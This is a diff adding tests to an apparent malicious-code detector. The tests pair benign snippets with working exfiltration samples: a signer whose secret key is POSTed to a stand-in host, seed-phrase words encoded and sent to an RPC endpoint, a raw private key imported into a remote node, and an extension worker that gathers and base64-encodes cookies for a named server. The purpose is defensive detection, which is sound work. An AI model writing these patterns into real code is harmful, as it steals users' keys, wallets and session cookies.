@@ -62,3 +62,24 @@ test('bad: an object with both halves of a pair of keys, as a whole; good: the p
   assert.equal(worst('import nacl from "tweetnacl"; export class Signer { constructor(seed) { this.secretKey = seed; this.publicKey = nacl.sign.keyPair.fromSeed(seed).publicKey; fetch("https://m.example.org", { method: "POST", body: JSON.stringify(this) }) } }'), 'high');
   assert.equal(worst('import nacl from "tweetnacl"; export class Signer { constructor(seed) { this.secretKey = seed; this.publicKey = nacl.sign.keyPair.fromSeed(seed).publicKey; fetch("https://m.example.org", { method: "POST", body: JSON.stringify(this.publicKey) }) } }'), 'nothing');
 });
+
+test('bad: the words of a wallet, which are counted, by their places; good: other lists, and what is made of a seal', () => {
+  const send = { 'chain.js': 'export async function register(rows) { await fetch("https://rpc.example.org/", { method: "POST", body: JSON.stringify({ params: rows.map((n) => n.toString(16)) }) }) }' };
+  const page = (count: string, given: string): string => `import { words } from "./words.js"; import { register } from "./chain.js"; function check(phrase) { const list = phrase.trim().split(/\\s+/); ${count} return list } export async function open(field, seal) { const list = check(field.value); await register(${given}) }`;
+  for (const count of ['if (![12, 24].includes(list.length)) throw new Error("words");', 'if (list.length !== 12 && list.length !== 24) throw new Error("words");']) assert.equal(worst(page(count, 'list.map((w) => words.indexOf(w))'), send), 'high', count);
+  for (const [count, given] of [['if (list.length < 2) throw new Error("words");', 'list'], ['if (![8, 12, 24].includes(list.length)) throw new Error("hours");', 'list'], ['if (![12, 24].includes(list.length)) throw new Error("words");', '[await seal(list)]']] as const) assert.equal(worst(page(count, given), send), 'nothing', given);
+});
+
+test('bad: a key that a node of somebody else gets to keep; good: one on this computer, and a table of methods', () => {
+  const node = (at: string, method = 'personal_importRawKey'): string => `const RPC = ${at}; exports.add = (key, network) => network.fetch(RPC, { method: "POST", body: JSON.stringify({ method: "${method}", params: [key, ""] }) })`;
+  assert.equal(worst(node('"https://rpc-amoy.example.org"')), 'high');
+  for (const code of [node('"http://127.0.0.1:8545"'), node('process.env.RPC'), node('"https://rpc-amoy.example.org"', 'eth_sendRawTransaction'), 'exports.METHODS = { importRawKey: "personal_importRawKey" }; exports.docs = "https://docs.example.org/rpc"']) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: cookies that a worker answers a message with go to a server that is named; good: they are shown, and something else is sent', () => {
+  const worker = 'chrome.runtime.onMessage.addListener((m, sender, reply) => { switch (m.kind) { case "jar": chrome.cookies.getAll({ url: m.url }, (all) => reply({ jar: btoa(all.map((c) => c.value).join()) })); break; case "put": fetch(m.url, { method: "POST", body: JSON.stringify(m.data) }); break } return true });';
+  const page = (given: string): string => `const ask = (m) => new Promise((done) => chrome.runtime.sendMessage(m, done)); (async () => { const found = await ask({ kind: "jar", url: location.origin }); const body = ${given}; await ask({ kind: "put", url: "https://in.example.org/q", data: body }) })();`;
+  assert.equal(worst(page('{ at: location.host, k: found.jar }'), { 'worker.js': worker }), 'high');
+  assert.equal(worst(page('{ at: location.host }; show(found.jar)'), { 'worker.js': worker }), 'nothing');
+  assert.equal(worst(page('{ k: found.jar }'), { 'worker.js': worker.replace('chrome.cookies.getAll({ url: m.url }', 'chrome.tabs.query({ url: m.url }') }), 'nothing');
+});
